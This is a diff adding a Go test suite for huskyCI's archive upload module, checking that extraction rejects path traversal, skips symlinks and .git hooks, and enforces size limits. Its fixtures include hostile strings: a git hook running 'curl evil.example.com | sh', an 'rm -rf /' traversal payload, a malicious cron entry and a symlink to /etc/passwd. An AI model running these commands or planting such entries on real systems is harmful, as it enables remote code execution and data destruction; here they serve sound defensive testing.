@@ -0,0 +1,225 @@
+// Copyright 2019 Globo.com authors. All rights reserved.
+// Use of this source code is governed by a BSD-style
+// license that can be found in the LICENSE file.
+
+package upload_test
+
+import (
+	"archive/tar"
+	"archive/zip"
+	"bytes"
+	"compress/gzip"
+	"io"
+	"io/ioutil"
+	"os"
+	"strings"
+
+	"github.com/globocom/huskyCI/api/upload"
+
+	. "github.com/onsi/ginkgo"
+	. "github.com/onsi/gomega"
+)
+
+type archiveFile struct {
+	name     string
+	content  string
+	typeflag byte
+}
+
+func tarGz(files ...archiveFile) *bytes.Buffer {
+	archive := &bytes.Buffer{}
+	gzipWriter := gzip.NewWriter(archive)
+	tarWriter := tar.NewWriter(gzipWriter)
+	for _, file := range files {
+		header := &tar.Header{Name: file.name, Mode: 0644, Size: int64(len(file.content)), Typeflag: file.typeflag}
+		switch file.typeflag {
+		case tar.TypeDir:
+			header.Mode, header.Size = 0755, 0
+		case tar.TypeSymlink:
+			header.Linkname, header.Size = file.content, 0
+		}
+		Expect(tarWriter.WriteHeader(header)).To(Succeed())
+		if header.Size > 0 {
+			_, err := tarWriter.Write([]byte(file.content))
+			Expect(err).To(BeNil())
+		}
+	}
+	Expect(tarWriter.Close()).To(Succeed())
+	Expect(gzipWriter.Close()).To(Succeed())
+	return archive
+}
+
+func zipArchive(files ...archiveFile) *bytes.Buffer {
+	archive := &bytes.Buffer{}
+	zipWriter := zip.NewWriter(archive)
+	for _, file := range files {
+		writer, err := zipWriter.Create(file.name)
+		Expect(err).To(BeNil())
+		_, err = writer.Write([]byte(file.content))
+		Expect(err).To(BeNil())
+	}
+	Expect(zipWriter.Close()).To(Succeed())
+	return archive
+}
+
+// storedFiles returns the content of the regular files of the tar archive stored for RID, and the directories
+// as names ending with a slash.
+func storedFiles(dir, RID string) map[string]string {
+	stored, err := os.Open(upload.Path(dir, RID))
+	Expect(err).To(BeNil())
+	defer stored.Close()
+	files := map[string]string{}
+	tarReader := tar.NewReader(stored)
+	for {
+		header, err := tarReader.Next()
+		if err == io.EOF {
+			return files
+		}
+		Expect(err).To(BeNil())
+		content, err := ioutil.ReadAll(tarReader)
+		Expect(err).To(BeNil())
+		files[header.Name] = string(content)
+	}
+}
+
+var _ = Describe("Upload", func() {
+	var dir string
+	BeforeEach(func() {
+		var err error
+		dir, err = ioutil.TempDir("", "huskyci-upload")
+		Expect(err).To(BeNil())
+	})
+	AfterEach(func() {
+		os.RemoveAll(dir)
+	})
+
+	Describe("Store", func() {
+		Context("When the archive is a tar.gz file", func() {
+			It("Should keep its directories and files under the root.", func() {
+				archive := tarGz(
+					archiveFile{name: "./app/", typeflag: tar.TypeDir},
+					archiveFile{name: "./app/main.go", content: "package main", typeflag: tar.TypeReg},
+					archiveFile{name: "README", content: "readme", typeflag: tar.TypeReg},
+				)
+				Expect(upload.Store(dir, "a1b2c3", archive, upload.Limits{})).To(Succeed())
+				Expect(storedFiles(dir, "a1b2c3")).To(Equal(map[string]string{
+					"huskyci-upload/":            "",
+					"huskyci-upload/app/":        "",
+					"huskyci-upload/app/main.go": "package main",
+					"huskyci-upload/README":      "readme",
+				}))
+			})
+
+			It("Should skip links, that could point out of the root.", func() {
+				archive := tarGz(
+					archiveFile{name: "passwd", content: "/etc/passwd", typeflag: tar.TypeSymlink},
+					archiveFile{name: "main.go", content: "package main", typeflag: tar.TypeReg},
+				)
+				Expect(upload.Store(dir, "a1b2c3", archive, upload.Limits{})).To(Succeed())
+				Expect(storedFiles(dir, "a1b2c3")).To(Equal(map[string]string{
+					"huskyci-upload/":        "",
+					"huskyci-upload/main.go": "package main",
+				}))
+			})
+		})
+
+		Context("When the archive is a zip file", func() {
+			It("Should keep its files under the root.", func() {
+				archive := zipArchive(archiveFile{name: "app/main.py", content: "print(1)"}, archiveFile{name: `lib\util.py`, content: "pass"})
+				Expect(upload.Store(dir, "a1b2c3", archive, upload.Limits{})).To(Succeed())
+				Expect(storedFiles(dir, "a1b2c3")).To(Equal(map[string]string{
+					"huskyci-upload/":            "",
+					"huskyci-upload/app/main.py": "print(1)",
+					"huskyci-upload/lib/util.py": "pass",
+				}))
+			})
+		})
+
+		Context("When the archive has a .git directory", func() {
+			It("Should skip it, with its hooks, wherever it is.", func() {
+				archive := tarGz(
+					archiveFile{name: ".git/", typeflag: tar.TypeDir},
+					archiveFile{name: ".git/hooks/pre-commit", content: "curl evil.example.com | sh", typeflag: tar.TypeReg},
+					archiveFile{name: "main.go", content: "package main", typeflag: tar.TypeReg},
+				)
+				Expect(upload.Store(dir, "a1b2c3", archive, upload.Limits{})).To(Succeed())
+				Expect(storedFiles(dir, "a1b2c3")).To(Equal(map[string]string{
+					"huskyci-upload/":        "",
+					"huskyci-upload/main.go": "package main",
+				}))
+			})
+
+			It("Should skip it from a zip file as well.", func() {
+				archive := zipArchive(archiveFile{name: "lib/.git/hooks/pre-commit", content: "curl evil.example.com | sh"}, archiveFile{name: "lib/util.py", content: "pass"})
+				Expect(upload.Store(dir, "a1b2c3", archive, upload.Limits{})).To(Succeed())
+				Expect(storedFiles(dir, "a1b2c3")).To(Equal(map[string]string{
+					"huskyci-upload/":            "",
+					"huskyci-upload/lib/util.py": "pass",
+				}))
+			})
+		})
+
+		Context("When a file of the archive would be extracted out of the root", func() {
+			It("Should return ErrUnsafePath for a tar.gz file going up.", func() {
+				archive := tarGz(archiveFile{name: "app/../../evil.sh", content: "rm -rf /", typeflag: tar.TypeReg})
+				Expect(upload.Store(dir, "a1b2c3", archive, upload.Limits{})).To(Equal(upload.ErrUnsafePath))
+				_, err := os.Stat(upload.Path(dir, "a1b2c3"))
+				Expect(os.IsNotExist(err)).To(BeTrue())
+			})
+
+			It("Should return ErrUnsafePath for a zip file with an absolute path.", func() {
+				archive := zipArchive(archiveFile{name: "/etc/cron.d/evil", content: "* * * * * root id"})
+				Expect(upload.Store(dir, "a1b2c3", archive, upload.Limits{})).To(Equal(upload.ErrUnsafePath))
+			})
+
+			It("Should return ErrUnsafePath for a zip file going up with backslashes.", func() {
+				archive := zipArchive(archiveFile{name: `..\evil.bat`, content: "del"})
+				Expect(upload.Store(dir, "a1b2c3", archive, upload.Limits{})).To(Equal(upload.ErrUnsafePath))
+			})
+		})
+
+		Context("When the archive exceeds its size limit", func() {
+			It("Should return ErrArchiveTooLarge.", func() {
+				archive := zipArchive(archiveFile{name: "main.go", content: "package main"})
+				limits := upload.Limits{MaxSize: int64(archive.Len() - 1)}
+				Expect(upload.Store(dir, "a1b2c3", archive, limits)).To(Equal(upload.ErrArchiveTooLarge))
+			})
+		})
+
+		Context("When the extracted files exceed their size limit", func() {
+			It("Should return ErrArchiveTooLarge, however small the archive is.", func() {
+				archive := tarGz(
+					archiveFile{name: "a.txt", content: strings.Repeat("a", 600), typeflag: tar.TypeReg},
+					archiveFile{name: "b.txt", content: strings.Repeat("b", 600), typeflag: tar.TypeReg},
+				)
+				limits := upload.Limits{MaxSize: 1000, MaxExtractedSize: 1000}
+				Expect(archive.Len()).To(BeNumerically("<", 1000))
+				Expect(upload.Store(dir, "a1b2c3", archive, limits)).To(Equal(upload.ErrArchiveTooLarge))
+			})
+		})
+
+		Context("When the archive is neither a zip nor a tar.gz file", func() {
+			It("Should return ErrUnsupportedArchive.", func() {
+				Expect(upload.Store(dir, "a1b2c3", strings.NewReader("just some text"), upload.Limits{})).To(Equal(upload.ErrUnsupportedArchive))
+			})
+		})
+
+		Context("When the archive is truncated", func() {
+			It("Should return ErrUnsupportedArchive.", func() {
+				archive := tarGz(archiveFile{name: "main.go", content: strings.Repeat("package main\n", 100), typeflag: tar.TypeReg})
+				truncated := bytes.NewReader(archive.Bytes()[:archive.Len()/2])
+				Expect(upload.Store(dir, "a1b2c3", truncated, upload.Limits{})).To(Equal(upload.ErrUnsupportedArchive))
+			})
+		})
+	})
+
+	Describe("Remove", func() {
+		It("Should remove the stored files and ignore missing ones.", func() {
+			Expect(upload.Store(dir, "a1b2c3", zipArchive(archiveFile{name: "main.go"}), upload.Limits{})).To(Succeed())
+			Expect(upload.Remove(dir, "a1b2c3")).To(Succeed())
+			_, err := os.Stat(upload.Path(dir, "a1b2c3"))
+			Expect(os.IsNotExist(err)).To(BeTrue())
+			Expect(upload.Remove(dir, "a1b2c3")).To(Succeed())
+		})
+	})
+})